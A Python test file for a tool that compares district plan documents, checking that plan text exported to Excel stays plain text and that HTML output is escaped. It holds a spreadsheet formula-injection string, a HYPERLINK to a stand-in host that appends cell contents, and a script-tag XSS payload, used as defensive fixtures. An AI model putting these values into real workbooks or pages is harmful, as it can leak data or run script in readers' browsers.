"""Review findings on the comparison workbook: plan text must stay text (no formulas, no links)."""

import openpyxl
import pandas as pd

from reja.compare import compare, write_xlsx

HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"ok")'


def test_plan_text_in_compare_xlsx_is_never_a_formula_or_a_link(tmp_path):
    rows = [
        dict(document_id="d1", source_file="jondor_2025.docx", page=1, region="Buxoro viloyati",
             district="Jondor", year=2025, section_no="I", section_id=None, item_no="1", text=HOSTILE,
             indicator_id=None, unit="nusxa", unit_id=None, fact_year=2024, fact_value=None, plan_year=2025,
             plan_value=3.0, flags="", status="ok"),
        dict(document_id="d1", source_file="jondor_2025.docx", page=1, region="Buxoro viloyati",
             district="Jondor", year=2025, section_no="I", section_id=None, item_no="2",
             text="http://x.invalid/kitob", indicator_id=None, unit="nusxa", unit_id=None, fact_year=2024,
             fact_value=None, plan_year=2025, plan_value=4.0, flags="", status="ok"),
    ]
    result = compare(pd.DataFrame(rows))
    assert HOSTILE in set(result.unaligned["text"])
    path = write_xlsx(result, tmp_path / "compare.xlsx")
    ws = openpyxl.load_workbook(path)["Unaligned"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value in (HOSTILE, "http://x.invalid/kitob")]
    assert len(cells) == 2
    for cell in cells:
        assert cell.data_type == "s", cell.value  # a string, not a formula ("f")
        assert cell.hyperlink is None


def test_plan_text_in_compare_html_is_escaped():
    """compare.html is mailed and opened in a browser without any CSP: a district's text must not
    become markup or script (the template is compare.html.j2, which select_autoescape(["html"])
    did not match)."""
    from reja.compare import render_html

    hostile = "<script>alert(1)</script> kitob"
    rows = [dict(document_id="d1", source_file="<b>jondor</b>.docx", page=1, region="Buxoro viloyati",
                 district="Jondor", year=2025, section_no="I", section_id=None, item_no="1", text=hostile,
                 indicator_id=None, unit="nusxa", unit_id=None, fact_year=2024, fact_value=None,
                 plan_year=2025, plan_value=3.0, flags="", status="ok")]
    html = render_html(compare(pd.DataFrame(rows)))
    assert "alert(1)" in html  # the text is there …
    assert "<script>" not in html and "<b>jondor</b>" not in html  # … as text
